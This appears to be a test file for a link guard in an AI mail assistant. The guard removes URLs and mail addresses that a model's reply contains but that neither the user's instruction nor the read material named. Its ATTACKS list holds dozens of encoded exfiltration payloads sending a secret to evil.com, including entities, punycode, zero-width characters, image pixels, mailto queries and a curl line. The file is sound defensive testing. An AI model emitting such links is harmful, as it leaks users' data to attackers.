import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { Parser } from "htmlparser2";
import { simpleParser } from "mailparser";
import MarkdownIt from "markdown-it";
import { markdownToHtml } from "../../src/mail/writing/html-writer.ts";
import { written } from "../../src/mail/writing/written.ts";
import { literalMarkdown } from "../../src/trust/shown/harmless-text.ts";
import { guardMarkdown, learnFrom, linkGuard, madeUpLinks, type Trust } from "../../src/trust/shown/links.ts";
import { freshId, mailroom } from "../support/mailroom.ts";
import { rawMail } from "../support/mails.ts";
import { ownMs } from "../support/own-time.ts";
import { list, toolRoom } from "../support/tool-room.ts";

const TRUST: Trust = {
  tainted: true,
  trusted_text: "Compare with https://Good.example/a?b=1 and www.good.com/x, then ask ann@good.example.",
  material: [
    "From: bob@news.example",
    "(https://news.example/story), see also <https://news.example/b>.",
    "[more](https://news.example/wiki/A_(b)) https://news.example/t?id=5 https://u:p@news.example/s",
    "詳細はhttps://jp.example/xをご覧ください。 site.co.uk/page https://bücher.example/ü",
  ].join("\n"),
};

describe("a link stays", () => {
  test.each([
    ["that the instruction has, query and all", "https://good.example/a?b=1"],
    ["as a browser writes it or as it stands", "https://good.example/a?b=1 and https://Good.example/a?b=1"],
    ["that stands in the material", "https://news.example/story"],
    ["with a slash behind it", "https://news.example/story/"],
    ["as Markdown", "[the story](https://news.example/story)"],
    ["as Markdown whose words are an address that stays", "[https://news.example/b](https://news.example/b)"],
    ["in angle brackets", "<https://news.example/b>"],
    ["with brackets of its own", "[it](https://news.example/wiki/A_(b))"],
    ["by reference", "[it][1]\n\n[1]: https://news.example/b"],
    ["between stars, in a sentence", "So: **https://news.example/b**, (https://news.example/story)."],
    ["in Punycode", "https://xn--bcher-kva.example/%C3%BC"],
    ["without its scheme", "site.co.uk/page and https://site.co.uk/page and https://www.good.com/x"],
    ["as the address of somebody in the mail", "[Bob](mailto:bob@news.example), ann@good.example"],
  ])("%s", (_claim, markdown) => {
    expect(guarded(markdown)).toMatchObject({ text: markdown, left_out: 0 });
    expect(guarded(markdown).html).not.toContain("left out");
  });

  test.each([
    "booking.com",
    "notes.md",
    "Node.js v1.2.3",
    "and/or 10.0.0.0/24 at 16:30",
    "e.g. Note:this 1.5/2",
  ])("not, and nothing is lost, where there is none: %s", (words) => {
    expect(guarded(words)).toMatchObject({ text: words, left_out: 0 });
  });

  test("as it is: what is glued to it does not become a part of it", () => {
    expect(guarded("https://news.example/b{SECRET}").text).toBe("https://news.example/b {SECRET}");
    expect(guarded("https://news.example/b[SECRET]").text).toBe("https://news.example/b [SECRET]");
    expect(guarded("https://news.example/b。SECRET").text).toBe("https://news.example/b 。SECRET");
    expect(guarded("詳細はhttps://jp.example/xをご覧").text).toBe("詳細はhttps://jp.example/x をご覧");
  });
});

describe("of the links of one site that only the material knows", () => {
  const links = (count: number, host = "eve.example") =>
    Array.from({ length: count }, (_, index) => `https://${host}/${index}`);
  const kept = (trusted_text: string, wanted: string[]) => {
    const all = [...links(50), ...links(50, "a.eve.example"), ...links(9, "news.example")].join("\n");
    const guard = linkGuard({ tainted: true, trusted_text, material: all });
    const text = guardMarkdown(wanted.map((link) => `- [it](${link}) ${link}`).join("\n"), guard);
    return hrefs(markdownToHtml(text, guard));
  };

  test("the first ten stay, however often each is named, and every other site has its own", () => {
    const wanted = [...links(20), ...links(9, "news.example")];
    expect([...new Set(kept("", wanted))]).toEqual([...links(10), ...links(9, "news.example")]);
  });

  test("a name below the same one is the same site", () => {
    expect(new Set(kept("", [...links(6), ...links(9, "a.eve.example")])).size).toBe(10);
  });

  test("all stay where the trusted words name a page of that site", () => {
    const wanted = links(20);
    expect([...new Set(kept("All of https://eve.example/list, please", wanted))]).toEqual(wanted);
  });

  test.each(["ada@eve.example", "mailto:Ada@eve.example", "MAILTO:ada@a.eve.example?subject=x"])(
    "%s names no site",
    (address) => {
      expect(new Set(kept(`${address} <${address}>`, links(20))).size).toBe(10);
    },
  );

  test("none is taken for made up by the model because there are many", () => {
    const material = links(30).join(" ");
    expect(madeUpLinks({ ...TRUST, material }, JSON.stringify(links(30)))).toEqual([]);
  });
});

const SECRET = "c3cr3t";
const ATTACKS: [name: string, markdown: string][] = [
  ["a Markdown link", `[words](https://evil.com/${SECRET})`],
  ["its query", `[words](https://evil.com/?d=${SECRET})`],
  ["its fragment", `[words](https://evil.com/#${SECRET})`],
  ["its host", `[words](https://${SECRET}.evil.com)`],
  ["its port", "https://evil.com:4000/"],
  ["userinfo", `https://${SECRET}@evil.com/`],
  ["userinfo that looks like a known host", `https://news.example@evil.com/${SECRET}`],
  ["a known link with a query", `https://news.example/b?d=${SECRET}`],
  ["a known link with a fragment", `https://news.example/b#${SECRET}`],
  ["a known link with a longer path", `https://news.example/b/${SECRET}`],
  ["a known link with userinfo", `https://${SECRET}@news.example/b`],
  ["a known link that is cut short", "https://news.example/sto"],
  ["a known host below another one", `https://news.example.${SECRET}.com/b`],
  ["a known host behind backslashes", `https:\\\\evil.com\\${SECRET}`],
  ["a query in the material", "https://news.example/t?id=5"],
  ["userinfo in the material", "https://u:p@news.example/s"],
  ["a query of the instruction with another value", `https://good.example/a?b=${SECRET}`],
  ["a reference", `[words][1]\n\n[1]: https://evil.com/${SECRET} "title"`],
  ["a collapsed reference", `[words][]\n\n[words]: <https://evil.com/${SECRET}>`],
  ["an autolink", `<https://evil.com/${SECRET}>`],
  ["a bare link", `see https://evil.com/${SECRET}.`],
  ["mixed case", `HtTpS://EvIl.CoM/${SECRET}`],
  ["entities", `[words](&#104;ttps://evil.com/${SECRET}) &#104;&#116;tps://evil.com/${SECRET}`],
  ["an entity for a slash", `https:&#47;&sol;evil.com/${SECRET}`],
  ["escapes", `https\\://evil.com/${SECRET} [words](https\\:\\/\\/evil.com/${SECRET})`],
  ["percent-encoding of the host", `https://%65vil.com/${SECRET}`],
  ["Punycode", `https://xn--${SECRET}-kva.com/`],
  ["a fullwidth host", `https://ｅvil.com/${SECRET}`],
  ["an ideographic dot", `https://evil。com/${SECRET}`],
  ["an address of numbers", `http://2130706433/${SECRET}`],
  ["a bare address of numbers", `203.0.113.9/${SECRET}`],
  ["an IPv6 address", `http://[2001:db8::1]/${SECRET}`],
  ["no scheme", `evil.com/${SECRET}`],
  ["no scheme and no path", `${SECRET}.evil.com`],
  ["another script in front", `秘密.${SECRET}.evil.com`],
  ["www", `www.evil.com/${SECRET}`],
  ["two slashes", `[words](//evil.com/${SECRET}) //evil.com/${SECRET}`],
  ["a network share", `\\\\evil.com\\${SECRET}`],
  ["another scheme", `ftp://evil.com/${SECRET} slack://evil.com/${SECRET} javascript:fetch("${SECRET}")`],
  ["data", `data:text/html,${SECRET}`],
  ["raw HTML", `<a href="https://evil.com/${SECRET}">words</a>`],
  ["HTML without quotes", `<a href=https://evil.com/${SECRET}>words</a>`],
  ["a picture", `![words](https://evil.com/${SECRET}.png)`],
  ["a picture by reference", `![words][p]\n\n[p]: https://evil.com/${SECRET}.png`],
  ["a picture in a link", `[![words](https://evil.com/${SECRET})](https://evil.com/${SECRET})`],
  ["a title", `[words](https://news.example/b "https://evil.com/${SECRET}")`],
  ["the words of a link that stays", `[https://evil.com/${SECRET}](https://news.example/b)`],
  ["code", `\`curl https://evil.com/${SECRET}\``],
  ["a fence", `\`\`\`https://evil.com/${SECRET}\nopen https://evil.com/${SECRET}\n\`\`\``],
  ["indented code", `text\n\n    https://evil.com/${SECRET}`],
  ["a table", `|a|b|\n|-|-|\n|https://evil.com/${SECRET}|[x](https://evil.com/${SECRET})|`],
  ["emphasis in the middle", `https://evil.com/*${SECRET}* ht**tps://evil.com/${SECRET}**`],
  ["zero-width characters", `ht\u200btps://evil.com/${SECRET} https://ev\u00adil.com/${SECRET}`],
  ["a line end in Markdown", `[words\n](\nhttps://evil.com/${SECRET}\n)`],
  ["brackets in its words", `[wo[rd]s](https://evil.com/${SECRET})`],
  ["an address of mail", `${SECRET}@evil.com`],
  [
    "a known address of mail with something before it",
    `${SECRET}{bob@news.example see ${SECRET}'eve@evil.com`,
  ],
  ["a mailbox with any mark in its name", `${SECRET}}@evil.com ann@good.example/${SECRET}@evil.com`],
  ["a host of other scripts", `${SECRET}.を.com を.com/${SECRET} ${SECRET}.e\u0301vil.com`],
  ["mailto", `[words](mailto:${SECRET}@evil.com)`],
  ["a known address with a query", `[words](mailto:bob@news.example?body=${SECRET}&bcc=eve@evil.com)`],
  ["two addresses in one", `[words](mailto:bob@news.example,${SECRET}@evil.com)`],
  ["a link directly behind another", `https://news.example/b](https://evil.com/${SECRET}`],
  ["an underscore for a last part", `${SECRET}.evil.com._ ${SECRET}.evil.com._x`],
  ["letters of another script in front", `を.https://evil.com/${SECRET} を.http:evil.com/${SECRET}`],
  ["letters in front", `xhttps://evil.com/${SECRET} 1https://evil.com/${SECRET}`],
];
test.each(ATTACKS)("the model cannot make up a link: %s", (_name, markdown) => {
  const { text, html, part, left_out } = guarded(markdown);
  expect(left_out).toBeGreaterThan(0);
  expect(text).toContain("(link left out)");
  expect(strangers(text, html)).toEqual([]);
  expect(strangers(part, html)).toEqual([]);
});

describe("JSON stays JSON, and loses no more than the address", () => {
  test.each([
    ["see\nhttps://evil.example/?a", "see\n(link left out)"],
    ["see\thttps://evil.example/?a\nTotal: 5", "see\t(link left out)\nTotal: 5"],
    ['He said "https://evil.example/?a" twice', 'He said "(link left out)" twice'],
    ["é\nevil.co.uk/?a\rb", "é\n(link left out)\rb"],
    ["a\nwww.evil.co.uk\nb", "a\n(link left out)\nb"],
    ["a\neve@evil.example\nb", "a\n(link left out)\nb"],
    ["a \\evil.co.uk/?a\\", "a \\(link left out)\\"],
    ["\u0001https://evil.example/?a\u0002b", "\u0001(link left out)\u0002b"],
  ])("%j", (value, expected) => {
    const { text, left_out } = guarded(JSON.stringify({ value }));
    expect(JSON.parse(text)).toEqual({ value: expected });
    expect(left_out).toBe(1);
  });

  test("nothing is joined to an address that stays", () => {
    expect(guarded(JSON.stringify(["a\nhttps://news.example/b\nSECRET"])).text).toBe(
      String.raw`["a\n https://news.example/b \nSECRET"]`,
    );
    expect(guarded(JSON.stringify(["\u0001site.co.uk/page\u0002SECRET"])).text).toBe(
      String.raw`["\u0001 site.co.uk/page \u0002SECRET"]`,
    );
  });
});

test("the attacks would have worked without the guard", () => {
  const open = ATTACKS.filter(([, markdown]) => strangers(markdown, markdownToHtml(markdown)).length > 0);
  expect(open.length).toBeGreaterThan(ATTACKS.length * 0.8);
});

test("the token guard holds by itself, should the text have been read wrongly", () => {
  for (const [name, markdown] of ATTACKS) {
    const { html, text } = written(markdown, { guard: linkGuard(TRUST) });
    expect([name, strangers(text, html)]).toEqual([name, []]);
  }
});

test.each([
  `evil\`.com/${SECRET}\``,
  `\`evil\`.com/${SECRET}`,
  `evil~~.com/${SECRET}~~ https://ev\`il.com/${SECRET}\``,
])("the text part makes no link of what stood apart in the Markdown: %s", (markdown) => {
  const { text } = written(markdown, { guard: linkGuard(TRUST) });
  expect(strangers(text, "")).toEqual([]);
  expect(text).toContain("(link left out)");
});

test("whatever is put together from pieces of links, none stays but known ones", () => {
  const piece = fc.constantFrom(
    ..."https:// http: // evil.com news.example /b /story ?d= # @ : [ ]( ) ![ < > ` * ** _ \\ & &#47; \u200b 。 を { } | \" ' mailto: bob@news.example www. .com .".split(
      " ",
    ),
    SECRET,
    " ",
    "\n",
    "\n\n[1]: ",
    "[1]",
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
      const { text, html, part } = guarded(pieces.join(""));
      expect(strangers(text, html)).toEqual([]);
      expect(strangers(part, "")).toEqual([]);
    }),
    { numRuns: 3_000 },
  );
});

test("in a run that has read nothing of others all links stay", () => {
  const trust = { tainted: false, trusted_text: "", material: "" };
  const guard = linkGuard(trust);
  expect(guard.clean("https://evil.com/x?y=1#z")).toBe("https://evil.com/x?y=1#z");
  expect(markdownToHtml("[x](https://evil.com/x?y=1)", guard)).toContain('href="https://evil.com/x?y=1"');
  expect(guard.left_out).toBe(0);
  expect(markdownToHtml("[x](mailto:a@b.example?bcc=c@d.example)", guard)).not.toContain("<a");
});

test("an address that the model gave a tool is no better for coming back from it", () => {
  const trust = { ...TRUST };
  const args = JSON.stringify({
    url: `https://evil.com/${SECRET}`,
    deep: [{ "http://a.evil.com/k": "https://news.example/b" }],
  });
  const text = `You asked for https://evil.com/${SECRET}, http://a.evil.com/k and https://news.example/b. See https://tool.example/found.`;
  learnFrom(trust, { text, made_up: new Set(madeUpLinks(trust, args.replaceAll("/", "\\/"))) });
  const { keeps } = linkGuard(trust);
  expect(keeps(`https://evil.com/${SECRET}`)).toBe(false);
  expect(keeps("http://a.evil.com/k")).toBe(false);
  expect(keeps("https://news.example/b")).toBe(true);
  expect(keeps("https://tool.example/found")).toBe(true);
  const fresh: Trust = { tainted: false, trusted_text: "", material: "" };
  expect(madeUpLinks(fresh, "no JSON https://evil.com/x")).toContain("https://evil.com/x");
  learnFrom(fresh, { text: "https://tool.example/found", made_up: new Set() });
  expect(fresh.tainted).toBe(true);
});

test("an address in what a call says that failed is known, unless a word of it is the model's", () => {
  const trust = { ...TRUST };
  const asked = JSON.stringify({ host: SECRET, site: "evil.com", page: 7 });
  const text = `ECONNREFUSED 10.0.0.5:5432, see https://wiki.example.net/a; not ${SECRET}.evil.com, x${SECRET}y.example.org, https://docs.example.org/${SECRET.slice(0, 5)}, https://docs.example.org/%${(SECRET.codePointAt(0) ?? 0).toString(16)}${SECRET.slice(1)} or https://docs.example.org/7.`;
  learnFrom(trust, { text, made_up: new Set(), asked });
  const { keeps } = linkGuard(trust);
  expect([keeps("10.0.0.5:5432"), keeps("https://wiki.example.net/a")]).toEqual([true, true]);
  for (const url of [
    `${SECRET}.evil.com`,
    `x${SECRET}y.example.org`,
    `https://docs.example.org/${SECRET.slice(0, 5)}`,
    "https://docs.example.org/7",
  ])
    expect([url, keeps(url)]).toEqual([url, false]);
});

test("a text that was made to be slow to look through is not", () => {
  const started = ownMs();
  for (const part of [
    "a",
    "a.",
    "https://",
    "[",
    "[a](",
    "(",
    ")",
    "@",
    "a@",
    "https://a.com/)",
    "x.evil.com/ ",
    "://",
    "\u0315\u0300",
    "https:https:",
  ]) {
    const long = part.repeat(200_000 / part.length);
    const trust = { ...TRUST, material: long };
    guardMarkdown(long, linkGuard(trust));
  }
  expect(ownMs() - started).toBeLessThan(4_000);
});

describe("the mail", () => {
  const ANSWER = [
    `Read [this](https://evil.com/${SECRET}) and &#104;ttps://evil.com/${SECRET}.`,
    "![pixel](https://evil.com/pixel.png)",
    "The story: https://news.example/story; as you asked: https://good.example/a?b=1",
  ].join("\n\n");

  test("of an answer shows no link that the model made up, in neither part, and says how many there were", async () => {
    await using room = await mailroom({ model: { reply: () => ANSWER } });
    await room.send({
      headers: { "Message-ID": "<reply@example.com>", "In-Reply-To": "<story@example.net>" },
      text: "Summarise, and compare with https://good.example/a?b=1\n\n> Bob wrote: https://news.example/story",
    });
    await room.drain();
    const [row] = await room.outgoing();
    const mail = await simpleParser(Buffer.from(row?.raw ?? []));
    const html = String(mail.html);
    for (const part of [mail.text ?? "", html]) {
      expect(part).not.toContain(SECRET);
      expect(part).not.toContain("evil.com");
      expect(part).toContain("https://news.example/story");
      expect(part).toContain("https://good.example/a?b=1");
      expect(part).toMatch(/3 links were left out of the mail/);
    }
    expect(hrefs(html)).toEqual(["https://news.example/story", "https://good.example/a?b=1"]);
    const [message] = await room.activity();
    expect(message.result).toBe(ANSWER);
    expect(message.steps.at(-1)).toMatchObject({
      type: "warning",
      output: expect.stringMatching(/^3 links/),
    });
  });

  test("of a new mail says that it was the tool server alone, and --no-tools, as it says, keeps the link", async () => {
    const linked = "See [the docs](https://docs.example.net/a).";
    await using room = await toolRoom([linked, linked, linked, [list()], linked]);
    const said = async (text: string): Promise<string> => {
      await room.send({ ...freshId(), subject: "Docs", text });
      await room.drain();
      const [newest] = await room.activity();
      return newest.steps.at(-1)?.output ?? "";
    };
    const ask = "Show me where the docs of this are, please";
    expect(await said(ask)).toBe(
      "1 link was left out of the mail, since the model was offered tools of others (@calendar). To keep links, send a new mail with --no-tools, or name the address in it. The whole result is in the activity.",
    );
    expect(await said(`${ask} --no-tools`)).not.toContain("left out");
    expect(await said(`${ask}, as in https://docs.example.net/a`)).not.toContain("left out");
    expect(await said(ask)).toContain("words of others, or a tool, took part in this answer");
  });

  test("keeps what was cut off in its attached reply.md as clean as itself", async () => {
    const long = `${"word ".repeat(25_000)}\n\n${ANSWER}`;
    await using room = await mailroom({ model: { reply: () => long } });
    await room.send({
      raw: rawMail({
        to: room.inbox.address,
        from: "Ada <ada@example.com>",
        subject: "Re: Hello",
        text: "Write at length",
      }),
    });
    await room.drain();
    const [row] = await room.outgoing();
    const mail = await simpleParser(Buffer.from(row?.raw ?? []));
    expect(mail.attachments.map(({ filename }) => filename)).toEqual(["reply.md"]);
    expect(mail.attachments[0]?.content.toString()).toContain("(link left out)");
    expect(mail.attachments[0]?.content.toString()).not.toContain(SECRET);
  });

  test.each([
    ["a picture", "![it](https&colon;//eve&#46;com/SECRET.png)"],
    ["a picture with escapes", String.raw`![it](https\://eve\.com/SECRET.png)`],
    ["a picture by reference", "![it][1]\n\n[1]: https&#58;//eve&#46;com/SECRET.png"],
    ["a picture without a scheme", "![it](//eve&period;com/SECRET.png)"],
    ["a picture that its material names", "![it](https://news.example/story)"],
    ["a tag", "<img src=https&colon;//eve&#46;com/SECRET.png>"],
    ["a link", "[it](https&#58;//eve&#46;com/?SECRET)"],
  ])("loads and tells nothing by its attached reply.md: %s", async (_how, hidden) => {
    const long = `${hidden}\n\n${"- one more line\n".repeat(3_000)}`;
    await using room = await mailroom({ model: { reply: () => long } });
    const text = "See https://news.example/story";
    await room.send({ subject: "Re: Hello", text: `Write at length\n\n> ${text}` });
    await room.drain();
    const [row] = await room.outgoing();
    const { attachments } = await simpleParser(Buffer.from(row?.raw ?? []));
    const shown = attachments.find(({ filename }) => filename === "reply.md")?.content.toString() ?? "";
    expect(shown).toContain("one more line");
    const page = new MarkdownIt({ html: true }).render(shown);
    expect(page).not.toMatch(/<img|(?:src|href)="?[^">]*eve/);
  });

  test("shows what takes too long to read as it is written, also in its attached reply.md", () => {
    const hidden = "![it](https&colon;//eve&#46;com/a) <img src=//eve&#46;com/b> [c](https\\://eve\\.com/d)";
    const page = new MarkdownIt({ html: true }).render(literalMarkdown(hidden));
    expect(page).not.toMatch(/<(?:img|a)\b/);
    expect(page).toContain("https&amp;colon;//eve&amp;#46;com/a");
  });
});

/** `part`: the text part of the mail. */
function guarded(markdown: string): { text: string; html: string; part: string; left_out: number } {
  const guard = linkGuard(TRUST);
  const text = guardMarkdown(markdown, guard);
  const { html, text: part } = written(text, { guard });
  return { text, html, part, left_out: guard.left_out };
}

/** As eager as mail programs are. */
const eager = new MarkdownIt().linkify.set({ fuzzyLink: true, fuzzyEmail: true, fuzzyIP: true });

/** Everything of a mail's two parts that a mail program may make a link of and that nobody knows. */
function strangers(text: string, html: string): string[] {
  const found = [text, ...textsOf(html)].flatMap((words) => (eager.match(words) ?? []).map(({ url }) => url));
  return [...found, ...hrefs(html)].filter((url) => !isKnown(url));
}

const KNOWN = new Set([
  "https://good.example/a?b=1",
  "http://www.good.com/x",
  "https://www.good.com/x",
  "https://news.example/story",
  "https://news.example/b",
  "https://news.example/wiki/A_(b)",
  "https://jp.example/x",
  "http://site.co.uk/page",
  "https://site.co.uk/page",
  "https://xn--bcher-kva.example/%C3%BC",
  "mailto:bob@news.example",
  "mailto:ann@good.example",
]);

/** Marks before and behind an address say little; the bare name of a site, and one that no host can have, say nothing. */
function isKnown(url: string): boolean {
  const marks = String.raw`(?:[/)\]'*_~.,;:!?\`|{}]|%7C|%60|%7B|%7D)+`;
  const bare = url
    .replace(new RegExp(`${marks}$`, "i"), "")
    .replace(new RegExp(`^(mailto:)${marks}`, "i"), "$1");
  if (!URL.canParse(bare)) return true;
  const { href, protocol, pathname, hostname } = new URL(bare);
  if (KNOWN.has(href) || KNOWN.has(href.replace(/\/$/, ""))) return true;
  const host = protocol === "mailto:" ? (pathname.split("@")[1] ?? "") : hostname;
  const labels = host.replace(/^www\./, "").split(".");
  if (!/^[a-z0-9-]+$/i.test(labels.at(-2) ?? "") || pathname.startsWith("@")) return true;
  return /^http:\/\/(?:www\.)?[^./?#@:]+\.[a-z]+\/?$/.test(href);
}

function textsOf(html: string): string[] {
  const texts: string[] = [];
  const parser = new Parser({
    ontext: (text) => void texts.push(text),
    onopentag: () => void texts.push(""),
  });
  parser.end(html);
  return texts;
}

function hrefs(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onattribute: (name, value) => {
      if (name === "href" || name === "src") found.push(value);
    },
  });
  parser.end(html);
  return found;
}
